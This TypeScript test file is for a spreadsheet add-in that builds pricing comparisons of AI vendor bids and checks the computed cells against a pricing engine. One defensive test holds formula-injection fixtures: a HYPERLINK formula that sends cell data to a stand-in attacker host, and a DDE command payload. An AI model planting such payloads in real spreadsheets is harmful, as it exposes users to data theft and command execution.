/**
 * The comparison builder against the embedded formula engine (HyperFormula with the BUILT AIPRICE
 * functions from dist/): the sheet is built, its formulas computed by a real engine, and the computed
 * cells read back and compared with the pricing engine's figures.
 */
import { bidFigures, breakEvenResolutionRates, compareBids, Scenario } from "../../src/engine";
import { gallery, galleryTemplate, GUIDE_BID_IDS } from "../../src/templates/gallery";
import { contractQuestions } from "../../src/templates/questions";
import type { BidTemplate } from "../../src/templates/template";
import { buildComparison, comparisonSheets, exportBids, ComparisonProblem } from "../../src/workbook/builder";
import { EmbeddedWorkbook } from "../../src/workbook/embedded-workbook";
import { NO_BREAK_EVEN, PIECEWISE_NOTE, planComparison } from "../../src/workbook/plan";
import type { SheetPlan } from "../../src/workbook/sheet-plan";
import { builtFunctions } from "../support/load-functions";
import { asTemplate, GUIDE_C_REFERENCE, GUIDE_SCENARIO, guideTemplates, handMadeTemplates, RICH_SCENARIO } from "./fixtures";

function workbook(): EmbeddedWorkbook {
  const { metadata, implementations } = builtFunctions();
  return new EmbeddedWorkbook({ metadata, implementations });
}

/** The plan the builder used (same inputs, same names), for its layout. */
function layoutOf(wb: EmbeddedWorkbook, sheet: string, templates: BidTemplate[], scenario: Scenario): SheetPlan["layout"] {
  const others = wb.sheetNames().filter((n) => n !== sheet);
  return planComparison({ scenario, templates }, others, { sheetName: sheet }).layout;
}

const num = (wb: EmbeddedWorkbook, sheet: string, address: string): number => {
  const v = wb.value(sheet, address);
  if (typeof v !== "number") throw new Error(`${sheet}!${address} holds ${JSON.stringify(v)}, not a number`);
  return v;
};

/** Every figure of every bid on the sheet equals the engine's for the scenario. */
function expectFiguresMatchEngine(wb: EmbeddedWorkbook, sheet: string, layout: SheetPlan["layout"], templates: BidTemplate[], scenario: Scenario): void {
  const ranked = compareBids(
    templates.map((t) => t.bid),
    scenario,
  );
  layout.bids.forEach((b, i) => {
    const f = bidFigures(templates[i].bid, scenario);
    const at = (a: string) => num(wb, sheet, a);
    const close = (actual: number, expected: number, what: string) => {
      if (Math.abs(actual - expected) > 1e-9 * Math.max(1, Math.abs(expected))) {
        throw new Error(`${templates[i].bid.name}: ${what} on the sheet is ${actual}, the engine says ${expected}`);
      }
    };
    close(at(b.cells.vendorFee), f.vendorFeePerConversation, "vendor fee");
    close(at(b.cells.suppliedPerConversation), f.suppliedPerConversation, "supplied per conversation");
    close(at(b.cells.suppliedFixedMonthly), f.suppliedFixedMonthly, "supplied fixed");
    close(at(b.cells.suppliedOneTime), f.suppliedOneTime, "supplied one-time");
    close(at(b.cells.aiCost), f.aiCostPerConversation, "AI cost per conversation");
    close(at(b.cells.costPerResolution), f.costPerResolution, "cost per resolution");
    close(at(b.cells.blended), f.blendedCostPerConversation, "blended cost");
    close(at(b.cells.monthlyAiCost), f.monthlyAiCost, "monthly AI cost");
    close(at(b.cells.monthlyTotal), f.monthlyTotal, "monthly total");
    close(at(b.cells.monthlySavings), f.monthlySavings, "monthly savings");
    expect(at(b.cells.rank)).toBe(ranked[i].rank);
  });
}

describe("the guide's three bids on the embedded workbook", () => {
  const templates = guideTemplates();
  let wb: EmbeddedWorkbook;
  let sheet: string;
  let layout: SheetPlan["layout"];

  beforeAll(async () => {
    wb = workbook();
    wb.addSheet("Sheet1");
    ({ sheetName: sheet } = await buildComparison(wb, { scenario: GUIDE_SCENARIO, templates }));
    layout = layoutOf(wb, sheet, templates, GUIDE_SCENARIO);
  });
  afterAll(() => wb.destroy());

  test("SPEC's figures at V = 100000, r = 0.9, h = 3", () => {
    expect(sheet).toBe("Bid comparison");
    const [a, b, c] = layout.bids;
    const v = (addr: string) => num(wb, sheet, addr);
    expect(v(a.cells.aiCost)).toBeCloseTo(0.46, 12);
    expect(v(b.cells.aiCost)).toBeCloseTo(0.891, 12);
    expect(v(c.cells.aiCost)).toBeCloseTo(0.8375, 12);
    expect(v(a.cells.costPerResolution)).toBeCloseTo(0.5111, 4);
    expect(v(b.cells.costPerResolution)).toBeCloseTo(0.99, 12);
    expect(v(c.cells.costPerResolution)).toBeCloseTo(0.9306, 4);
    expect(v(a.cells.blended)).toBeCloseTo(0.76, 12);
    expect(v(b.cells.blended)).toBeCloseTo(1.191, 12);
    expect(v(c.cells.blended)).toBeCloseTo(1.1375, 12);
    expect([a, b, c].map((x) => v(x.cells.rank))).toEqual([1, 3, 2]);
    expectFiguresMatchEngine(wb, sheet, layout, templates, GUIDE_SCENARIO);
  });

  test("the figures are formulas with the AIPRICE functions over the named scenario cells", () => {
    const c = layout.bids[2];
    expect(wb.cell(sheet, c.cells.vendorFee).formula).toMatch(/^=AIPRICE\.REVSHARE_NET\(HumanCost, \$B\$\d+, ResolutionRate, \$B\$\d+, \$B\$\d+\)$/);
    expect(wb.cell(sheet, c.cells.aiCost).formula).toMatch(/^=AIPRICE\.TCO_PER_CONVERSATION\(/);
    expect(wb.cell(sheet, c.cells.costPerResolution).formula).toMatch(/^=AIPRICE\.COST_PER_RESOLUTION\(I\d+, ResolutionRate\)$/);
    expect(wb.cell(sheet, c.cells.blended).formula).toMatch(/^=AIPRICE\.BLENDED_COST\(I\d+, ResolutionRate, HumanCost\)$/);
    expect(wb.cell(sheet, layout.bids[0].cells.vendorFee).formula).toMatch(/^=AIPRICE\.TOKEN_COST\(/);
    expect(wb.cell(sheet, layout.bids[1].cells.vendorFee).formula).toMatch(/^=AIPRICE\.RESOLUTION_FEE\(\$B\$\d+, ResolutionRate\)$/);
    expect(wb.cell(sheet, layout.scenario.ResolutionRate)).toMatchObject({ value: 0.9, formula: null, numberFormat: "0.0%", styleName: "input" });
    expect(wb.cell(sheet, layout.bids[1].cells.costPerResolution).numberFormat).toBe('"$"#,##0.0000');
    expect(wb.cell(sheet, layout.bids[1].cells.monthlyTotal).numberFormat).toBe('"$"#,##0');
  });

  test("the guide's 0.16 stands beside bid C with its one-line reason", () => {
    const c = layout.bids[2];
    expect(c.cells.reference).toBeDefined();
    expect(wb.value(sheet, c.cells.reference!)).toBe(0.16);
    expect(wb.value(sheet, c.cells.referenceNote!)).toBe(`${GUIDE_C_REFERENCE.label}: ${GUIDE_C_REFERENCE.note}`);
    expect(layout.bids[0].cells.reference).toBeUndefined();
  });

  test("the sensitivity block spills from one formula per column and equals the engine at every rate", () => {
    const rates = wb.values(sheet, layout.sensitivity.rates).map((r) => r[0]);
    expect(rates).toHaveLength(11);
    rates.forEach((r, k) => expect(r).toBeCloseTo(0.5 + 0.05 * k, 12));
    const anchor = layout.sensitivity.rates.split(":")[0];
    expect(wb.cell(sheet, anchor).formula).toBe("=SEQUENCE(11, 1, 0.5, 0.05)");
    layout.bids.forEach((b, i) => {
      expect(wb.cell(sheet, b.sensitivity).formula).toMatch(/^=AIPRICE\.COST_PER_RESOLUTION\(/);
      const col = b.sensitivity.replace(/\d+$/, "");
      const row = Number(b.sensitivity.replace(/^[A-Z]+/, ""));
      for (let k = 0; k < 11; k++) {
        const address = `${col}${row + k}`;
        if (k > 0) expect(wb.cell(sheet, address)).toMatchObject({ formula: null, spilled: true });
        const rate = rates[k] as number;
        expect(num(wb, sheet, address)).toBeCloseTo(bidFigures(templates[i].bid, { ...GUIDE_SCENARIO, resolutionRate: rate }).costPerResolution, 10);
      }
    });
  });

  test("the break-even rates equal the engine's", () => {
    expect(layout.breakEvens).toHaveLength(3);
    for (const be of layout.breakEvens) {
      const engine = breakEvenResolutionRates(templates[be.first].bid, templates[be.second].bid, GUIDE_SCENARIO);
      const v = wb.value(sheet, be.cell);
      if (engine.length === 0) expect(v).toBe(NO_BREAK_EVEN);
      else {
        expect(engine).toHaveLength(1);
        expect(v as number).toBeCloseTo(engine[0], 9);
      }
    }
    // A (0.46 flat) and B (0.99 r) cross at r = 0.46 / 0.99; above it A is cheaper.
    const ab = layout.breakEvens.find((b) => b.first === 0 && b.second === 1)!;
    expect(num(wb, sheet, ab.cell)).toBeCloseTo(0.46 / 0.99, 12);
    expect(wb.value(sheet, ab.cheaperAbove)).toBe(templates[0].bid.name);
  });

  test("changing the resolution rate recomputes every figure, the ranking, the spill and the break-evens", () => {
    const at75: Scenario = { ...GUIDE_SCENARIO, resolutionRate: 0.75 };
    const events: unknown[] = [];
    const stop = wb.onChange((e) => events.push(e));
    wb.setCellInput(sheet, layout.scenario.ResolutionRate, 0.75);
    stop();
    expect(events.length).toBeGreaterThan(0);
    expectFiguresMatchEngine(wb, sheet, layout, templates, at75);
    for (const be of layout.breakEvens) {
      const engine = breakEvenResolutionRates(templates[be.first].bid, templates[be.second].bid, at75);
      const v = wb.value(sheet, be.cell);
      if (engine.length === 0) expect(v).toBe(NO_BREAK_EVEN);
      else expect(v as number).toBeCloseTo(engine[0], 9);
    }
    wb.setCellInput(sheet, layout.scenario.HumanCost, 5);
    expectFiguresMatchEngine(wb, sheet, layout, templates, { ...at75, humanCost: 5 });
    wb.setCellInput(sheet, layout.scenario.Conversations, 20000);
    expectFiguresMatchEngine(wb, sheet, layout, templates, { ...at75, humanCost: 5, conversations: 20000 });
  });

  test("the chart plots cost per resolution by bid", () => {
    const [chart] = wb.charts(sheet);
    expect(chart.type).toBe("bar-clustered");
    expect(chart.data.categories).toEqual(templates.map((t) => t.bid.name));
    chart.data.series[0].values.forEach((v, i) => expect(v).toBe(wb.value(sheet, layout.bids[i].cells.costPerResolution)));
  });

  test("the contract questions, sources and dates are on the sheet as text", () => {
    const texts = new Set<string>();
    const { rows, cols } = wb.sheetSize(sheet);
    const grid = wb.values(sheet, `A1:F${rows}`);
    grid.flat().forEach((v) => typeof v === "string" && texts.add(v));
    expect(cols).toBeGreaterThan(600); // the hidden meta column
    for (const t of templates) for (const q of contractQuestions(t)) expect(texts.has(q)).toBe(true);
    // One group per chosen pricing model, not one copy per bid.
    expect(layout.questions.map((g) => g.heading)).toEqual([
      "Every bid",
      `Priced per token: ${templates[0].bid.name}`,
      `Priced per resolution: ${templates[1].bid.name}`,
      `Priced revenue share: ${templates[2].bid.name}`,
      `${templates[0].bid.name} - ${templates[0].bid.vendor}: its own questions`,
      `${templates[1].bid.name} - ${templates[1].bid.vendor}: its own questions`,
      `${templates[2].bid.name} - ${templates[2].bid.vendor}: its own questions`,
    ]);
    expect(texts.has("The pricing guide, bid A - https://example.com/guide#a (read 2025-01-15)")).toBe(true);
    expect(wb.hiddenColumns(sheet)).toEqual(["ZZ"]);
  });
});

describe("every model and charge shape: the sheet equals the engine", () => {
  const templates = handMadeTemplates();
  let wb: EmbeddedWorkbook;
  let sheet: string;
  let layout: SheetPlan["layout"];

  beforeAll(async () => {
    wb = workbook();
    ({ sheetName: sheet } = await buildComparison(wb, { scenario: RICH_SCENARIO, templates }));
    layout = layoutOf(wb, sheet, templates, RICH_SCENARIO);
  });
  afterAll(() => wb.destroy());

  test("figures and ranks", () => {
    expectFiguresMatchEngine(wb, sheet, layout, templates, RICH_SCENARIO);
  });

  test.each([0.55, 0.7, 0.95, 1])("figures at r = %p", (r) => {
    wb.setCellInput(sheet, layout.scenario.ResolutionRate, r);
    expectFiguresMatchEngine(wb, sheet, layout, templates, { ...RICH_SCENARIO, resolutionRate: r });
    wb.setCellInput(sheet, layout.scenario.ResolutionRate, RICH_SCENARIO.resolutionRate);
  });

  test("figures when the qualifying share, the volume and the scenario's tokens change", () => {
    const changed: Scenario = {
      ...RICH_SCENARIO,
      qualifyingShare: 0.6,
      conversations: 45000,
      tokens: { input: 30000, output: 4000, cachedInput: 20000, attempts: 3 },
    };
    const cells = layout.scenario;
    wb.setCellInput(sheet, cells.QualifyingShare, 0.6);
    wb.setCellInput(sheet, cells.Conversations, 45000);
    wb.setCellInput(sheet, cells.InputTokens, 30000);
    wb.setCellInput(sheet, cells.OutputTokens, 4000);
    wb.setCellInput(sheet, cells.CachedInputTokens, 20000);
    wb.setCellInput(sheet, cells.CallsPerConversation, 3);
    expectFiguresMatchEngine(wb, sheet, layout, templates, changed);
    const t = RICH_SCENARIO.tokens!;
    wb.setCellInput(sheet, cells.QualifyingShare, RICH_SCENARIO.qualifyingShare!);
    wb.setCellInput(sheet, cells.Conversations, RICH_SCENARIO.conversations);
    wb.setCellInput(sheet, cells.InputTokens, t.input);
    wb.setCellInput(sheet, cells.OutputTokens, t.output);
    wb.setCellInput(sheet, cells.CachedInputTokens, t.cachedInput!);
    wb.setCellInput(sheet, cells.CallsPerConversation, t.attempts!);
    expectFiguresMatchEngine(wb, sheet, layout, templates, RICH_SCENARIO);
  });

  test("sensitivity columns equal the engine at every rate", () => {
    const rates = wb.values(sheet, layout.sensitivity.rates).map((r) => r[0] as number);
    layout.bids.forEach((b, i) => {
      const col = b.sensitivity.replace(/\d+$/, "");
      const row = Number(b.sensitivity.replace(/^[A-Z]+/, ""));
      rates.forEach((rate, k) => {
        const expected = bidFigures(templates[i].bid, { ...RICH_SCENARIO, resolutionRate: rate }).costPerResolution;
        const actual = num(wb, sheet, `${col}${row + k}`);
        expect(Math.abs(actual - expected)).toBeLessThanOrEqual(1e-9 * expected);
      });
    });
  });

  test("break-evens: the closed formula equals the engine for straight-line pairs; piecewise pairs say so", () => {
    let linear = 0;
    let bare = 0;
    for (const be of layout.breakEvens) {
      const [bi, bj] = [layout.bids[be.first], layout.bids[be.second]];
      const v = wb.value(sheet, be.cell);
      if (!(bi.linearInRate && bj.linearInRate)) {
        expect(v).toBe("see the sensitivity block");
        expect(wb.value(sheet, be.note)).toBe(PIECEWISE_NOTE);
        continue;
      }
      linear++;
      if (/BREAKEVEN_RESOLUTION_RATE/.test(wb.cell(sheet, be.cell).formula ?? "")) bare++;
      const engine = breakEvenResolutionRates(templates[be.first].bid, templates[be.second].bid, RICH_SCENARIO);
      if (engine.length === 0) expect(v).toBe(NO_BREAK_EVEN);
      else {
        expect(engine).toHaveLength(1);
        expect(typeof v).toBe("number");
        expect(v as number).toBeCloseTo(engine[0], 9);
      }
    }
    expect(linear).toBeGreaterThan(20);
    expect(bare).toBe(1); // "Per conversation, bare" against "Per resolution, bare"
  });

  test("editing a bid's price cell recomputes its figures and export reads the edit back", async () => {
    const i = templates.findIndex((t) => t.bid.name === "Allowance plan");
    const b = layout.bids[i];
    wb.setCellInput(sheet, b.inputs["charges.allowance.overagePrice"], 0.5);
    const edited = JSON.parse(JSON.stringify(templates)) as BidTemplate[];
    (edited[i].bid.charges as { allowance: { overagePrice: number } }).allowance.overagePrice = 0.5;
    expectFiguresMatchEngine(wb, sheet, layout, edited, RICH_SCENARIO);
    const exported = await exportBids(wb, sheet);
    expect(exported).toEqual(edited);
  });
});

describe("nothing lost, nothing injected", () => {
  test("building twice makes a second sheet; a user's sheet with data is untouched", async () => {
    const wb = workbook();
    wb.addSheet("Bid comparison");
    wb.setCellInput("Bid comparison", "A1", "my own notes");
    wb.setCellInput("Bid comparison", "B2", 42);
    wb.setCellInput("Bid comparison", "C3", "=B2*2");
    const before = wb.values("Bid comparison", "A1:D5");
    const first = await buildComparison(wb, { scenario: GUIDE_SCENARIO, templates: guideTemplates() });
    const second = await buildComparison(wb, { scenario: { ...GUIDE_SCENARIO, resolutionRate: 0.6 }, templates: guideTemplates() });
    expect([first.sheetName, second.sheetName]).toEqual(["Bid comparison 2", "Bid comparison 3"]);
    expect(wb.sheetNames()).toEqual(["Bid comparison", "Bid comparison 2", "Bid comparison 3"]);
    expect(wb.values("Bid comparison", "A1:D5")).toEqual(before);
    expect(wb.cell("Bid comparison", "C3").formula).toBe("=B2*2");
    expect(await comparisonSheets(wb)).toEqual(["Bid comparison 2", "Bid comparison 3"]);
    // Each sheet keeps its own scenario: the names are scoped to their sheet.
    expect(wb.value("Bid comparison 2", "B6")).toBe(0.9);
    expect(wb.value("Bid comparison 3", "B6")).toBe(0.6);
    const l2 = layoutOf(wb, "Bid comparison 2", guideTemplates(), GUIDE_SCENARIO);
    expect(wb.value("Bid comparison 2", l2.bids[1].cells.aiCost)).toBeCloseTo(0.891, 12);
    expect(wb.value("Bid comparison 3", l2.bids[1].cells.aiCost)).toBeCloseTo(0.594, 12);
    wb.destroy();
  });

  test("replacing happens only for the add-in's own sheet, when asked", async () => {
    const wb = workbook();
    wb.addSheet("Budget");
    wb.setCellInput("Budget", "A1", 1000);
    await expect(buildComparison(wb, { scenario: GUIDE_SCENARIO, templates: guideTemplates() }, { replaceSheet: "Budget" })).rejects.toThrow(
      /was not built by the add-in, so it is never overwritten/,
    );
    await expect(buildComparison(wb, { scenario: GUIDE_SCENARIO, templates: guideTemplates() }, { replaceSheet: "Nowhere" })).rejects.toThrow(ComparisonProblem);
    expect(wb.sheetNames()).toEqual(["Budget"]);
    expect(wb.value("Budget", "A1")).toBe(1000);

    const { sheetName } = await buildComparison(wb, { scenario: GUIDE_SCENARIO, templates: guideTemplates() });
    const updated = await buildComparison(wb, { scenario: { ...GUIDE_SCENARIO, resolutionRate: 0.5 }, templates: guideTemplates() }, { replaceSheet: sheetName });
    expect(updated.sheetName).toBe(sheetName);
    expect(wb.sheetNames()).toEqual(["Budget", sheetName]);
    expect(wb.value(sheetName, "B6")).toBe(0.5);
    expect(await comparisonSheets(wb)).toEqual([sheetName]);
    expect(wb.value("Budget", "A1")).toBe(1000);
    wb.destroy();
  });

  test("updating rewrites the same sheet: a formula on the user's own sheet that refers to it still computes", async () => {
    const wb = workbook();
    wb.addSheet("Summary");
    // Built with token figures (eight scenario names, a longer scenario block), updated without.
    const { sheetName } = await buildComparison(wb, { scenario: RICH_SCENARIO, templates: guideTemplates() });
    const id = wb.hf.getSheetId(sheetName);
    wb.setCellInput(sheetName, "AB400", "'old note");
    wb.setCellInput("Summary", "A1", `='${sheetName}'!B6*100`);
    expect(wb.value("Summary", "A1")).toBeCloseTo(RICH_SCENARIO.resolutionRate * 100, 12);

    const scenario = { ...GUIDE_SCENARIO, resolutionRate: 0.5 };
    await buildComparison(wb, { scenario, templates: guideTemplates() }, { replaceSheet: sheetName });
    expect(wb.hf.getSheetId(sheetName)).toBe(id);
    expect(wb.sheetNames()).toEqual(["Summary", sheetName]);
    // The user's formula is as typed (no #REF!) and reads the new sheet.
    expect(wb.cell("Summary", "A1").formula).toBe(`='${sheetName}'!B6*100`);
    expect(wb.value("Summary", "A1")).toBe(50);
    // Only the new plan is on the sheet, with its names and the marker, and its figures are the engine's.
    expect(wb.value(sheetName, "AB400")).toBeNull();
    const plan = planComparison({ scenario, templates: guideTemplates() }, ["Summary"], { sheetName });
    expect(wb.hf.listNamedExpressions(id).map((n) => n.toUpperCase()).sort()).toEqual(
      [...plan.names.map((n) => n.name), "AIPRICE_Comparison"].map((n) => n.toUpperCase()).sort(),
    );
    expect(wb.charts(sheetName).map((c) => c.id)).toEqual(plan.charts.map((c) => c.id));
    expectFiguresMatchEngine(wb, sheetName, plan.layout, guideTemplates(), scenario);
    expect(await comparisonSheets(wb)).toEqual([sheetName]);

    // A figure of the sheet used on Summary follows the sheet: after another update, and after an edit.
    const cost = plan.layout.bids[1].cells.costPerResolution;
    wb.setCellInput("Summary", "A2", `='${sheetName}'!${cost}`);
    const again = { ...GUIDE_SCENARIO, resolutionRate: 0.6 };
    await buildComparison(wb, { scenario: again, templates: guideTemplates() }, { replaceSheet: sheetName });
    expect(num(wb, "Summary", "A2")).toBeCloseTo(bidFigures(guideTemplates()[1].bid, again).costPerResolution, 9);
    wb.setCellInput(sheetName, "B6", 0.8);
    expect(num(wb, "Summary", "A2")).toBeCloseTo(bidFigures(guideTemplates()[1].bid, { ...GUIDE_SCENARIO, resolutionRate: 0.8 }).costPerResolution, 9);
    expect(wb.value("Summary", "A1")).toBe(80);
    wb.destroy();
  });

  test("a bid that cannot be priced is a clear error and nothing is written", async () => {
    const wb = workbook();
    wb.addSheet("Sheet1");
    const bad = asTemplate("bad", { vendor: "X", name: "Negative", currency: "USD", pricing: { model: "per-resolution", pricePerResolution: -1 } });
    const noTokens = asTemplate("tokens", { vendor: "Y", name: "No tokens", currency: "USD", pricing: { model: "per-token", inputPricePerMTok: 1, outputPricePerMTok: 2 } });
    const capped = asTemplate("capped", {
      vendor: "Z",
      name: "Capped tiers",
      currency: "USD",
      pricing: { model: "per-conversation", pricePerConversation: 0.5 },
      charges: { tiers: { mode: "graduated", tiers: [{ upTo: 50000, price: 0.5 }] } },
    });
    let error: unknown;
    try {
      await buildComparison(wb, { scenario: GUIDE_SCENARIO, templates: [...guideTemplates(), bad, noTokens, capped] });
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(ComparisonProblem);
    const problems = (error as ComparisonProblem).problems;
    expect(problems).toEqual([
      'bid 4 "Negative" (X): bid.pricing.pricePerResolution must be 0 or more (got -1)',
      'bid 5 "No tokens" (Y) cannot be priced in this scenario: a per-token bid needs tokens per conversation, from the bid or the scenario',
      expect.stringMatching(/^bid 6 "Capped tiers" \(Z\) cannot be priced in this scenario: quantity 100000 is above the last tier's bound \(50000\)/),
    ]);
    expect(wb.sheetNames()).toEqual(["Sheet1"]);
    wb.destroy();
  });

  test("injection strings from a template are written and read back as text, never as formulas", async () => {
    const wb = workbook();
    const evil = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-1", "@SUM(A1)", "=1+1", "'quoted", "=cmd|' /C calc'!A0"];
    const t = asTemplate(
      "evil",
      { vendor: evil[0], name: evil[1], currency: "USD", pricing: { model: "per-resolution", pricePerResolution: 0.5 }, supplied: [{ label: evil[3], perConversation: 0.1 }] },
      {
        notes: evil[2],
        questions: evil,
        sources: [{ field: "pricing.pricePerResolution", title: evil[6], url: "https://evil.example/?q=@SUM(A1)", asOf: "2025-01-01" }],
        reference: { label: evil[5], value: 0.1, note: evil[0] },
      },
    );
    const { sheetName } = await buildComparison(wb, { scenario: GUIDE_SCENARIO, templates: [t] });
    const layout = layoutOf(wb, sheetName, [t], GUIDE_SCENARIO);
    expect(wb.value(sheetName, layout.bids[0].cells.name)).toBe("+1");
    expect(wb.cell(sheetName, layout.bids[0].cells.name).formula).toBeNull();
    expect(wb.value(sheetName, `C${layout.bids[0].row}`)).toBe(evil[0]);
    expect(wb.cell(sheetName, `C${layout.bids[0].row}`).formula).toBeNull();
    const own = layout.questions.find((g) => g.heading.endsWith("its own questions"))!;
    expect(own.cells).toHaveLength(evil.length);
    for (const [k, address] of own.cells.entries()) {
      expect(wb.value(sheetName, address)).toBe(evil[k]);
      expect(wb.cell(sheetName, address).formula).toBeNull();
    }
    // No cell anywhere holds a formula that came from the template's text.
    const { rows } = wb.sheetSize(sheetName);
    for (let r = 1; r <= rows; r++)
      for (const c of "ABCDEFGHIJKLMNOP") {
        const f = wb.cell(sheetName, `${c}${r}`).formula;
        if (f) expect(f).not.toMatch(/HYPERLINK|evil|SUM\(A1\)|cmd|1\+1|quoted/);
      }
    // The figures still compute, and export gives the text back unchanged.
    expect(wb.value(sheetName, layout.bids[0].cells.aiCost)).toBeCloseTo(0.55, 12);
    const [back] = await exportBids(wb, sheetName);
    expect(back).toEqual(t);
    wb.destroy();
  });
});

describe("export", () => {
  test("a price cell holding text is reported with its cell; nothing is exported", async () => {
    const wb = workbook();
    const templates = guideTemplates();
    const { sheetName } = await buildComparison(wb, { scenario: GUIDE_SCENARIO, templates });
    const layout = layoutOf(wb, sheetName, templates, GUIDE_SCENARIO);
    const cell = layout.bids[1].inputs["pricing.pricePerResolution"];
    wb.setCellInput(sheetName, cell, "'0.99 per resolution");
    await expect(exportBids(wb, sheetName)).rejects.toThrow(new RegExp(`bid 2 "Fin": cell ${cell} \\(pricing.pricePerResolution\\) must be a number`));
    wb.setCellInput(sheetName, cell, -2);
    await expect(exportBids(wb, sheetName)).rejects.toThrow(/bid 2 "Fin": bid.pricing.pricePerResolution must be 0 or more \(got -2\)/);
    wb.setCellInput(sheetName, cell, 0.79);
    const out = await exportBids(wb, sheetName);
    expect((out[1].bid.pricing as { pricePerResolution: number }).pricePerResolution).toBe(0.79);
    expect(out[0]).toEqual(templates[0]);
    wb.destroy();
  });

  test("a sheet the add-in did not build cannot be exported", async () => {
    const wb = workbook();
    wb.addSheet("Mine");
    await expect(exportBids(wb, "Mine")).rejects.toThrow(/"Mine" is not a comparison sheet built by the add-in/);
    wb.destroy();
  });
});

describe("the shipped gallery on one sheet", () => {
  test("every gallery template's figures, sensitivity and break-evens equal the engine's", async () => {
    const templates = [...gallery];
    expect(templates.length).toBeGreaterThanOrEqual(13);
    const wb = workbook();
    const { sheetName } = await buildComparison(wb, { scenario: RICH_SCENARIO, templates });
    const layout = layoutOf(wb, sheetName, templates, RICH_SCENARIO);
    expectFiguresMatchEngine(wb, sheetName, layout, templates, RICH_SCENARIO);
    const rates = wb.values(sheetName, layout.sensitivity.rates).map((r) => r[0] as number);
    layout.bids.forEach((b, i) => {
      const col = b.sensitivity.replace(/\d+$/, "");
      const row = Number(b.sensitivity.replace(/^[A-Z]+/, ""));
      rates.forEach((rate, k) => {
        const expected = bidFigures(templates[i].bid, { ...RICH_SCENARIO, resolutionRate: rate }).costPerResolution;
        expect(Math.abs(num(wb, sheetName, `${col}${row + k}`) - expected)).toBeLessThanOrEqual(1e-9 * expected);
      });
    });
    for (const be of layout.breakEvens) {
      if (!(layout.bids[be.first].linearInRate && layout.bids[be.second].linearInRate)) continue;
      const engine = breakEvenResolutionRates(templates[be.first].bid, templates[be.second].bid, RICH_SCENARIO);
      const v = wb.value(sheetName, be.cell);
      if (engine.length === 0) expect(v).toBe(NO_BREAK_EVEN);
      else expect(v as number).toBeCloseTo(engine[0], 9);
    }
    expect(await exportBids(wb, sheetName)).toEqual(templates);
    wb.destroy();
  });

  test("the gallery's guide bids give SPEC's figures, with the guide's 0.16 beside C", async () => {
    const templates = GUIDE_BID_IDS.map((id) => galleryTemplate(id)!);
    const wb = workbook();
    const { sheetName } = await buildComparison(wb, { scenario: GUIDE_SCENARIO, templates });
    const layout = layoutOf(wb, sheetName, templates, GUIDE_SCENARIO);
    const v = (a: string) => num(wb, sheetName, a);
    expect(layout.bids.map((b) => v(b.cells.aiCost))).toEqual([expect.closeTo(0.46, 12), expect.closeTo(0.891, 12), expect.closeTo(0.8375, 12)]);
    expect(layout.bids.map((b) => v(b.cells.costPerResolution))).toEqual([expect.closeTo(0.5111, 4), expect.closeTo(0.99, 12), expect.closeTo(0.9306, 4)]);
    expect(layout.bids.map((b) => v(b.cells.blended))).toEqual([expect.closeTo(0.76, 12), expect.closeTo(1.191, 12), expect.closeTo(1.1375, 12)]);
    const c = layout.bids[2];
    expect(v(c.cells.reference!)).toBe(0.16);
    expect(wb.value(sheetName, c.cells.referenceNote!)).toBe(`${templates[2].reference!.label}: ${templates[2].reference!.note}`);
    wb.destroy();
  });
});
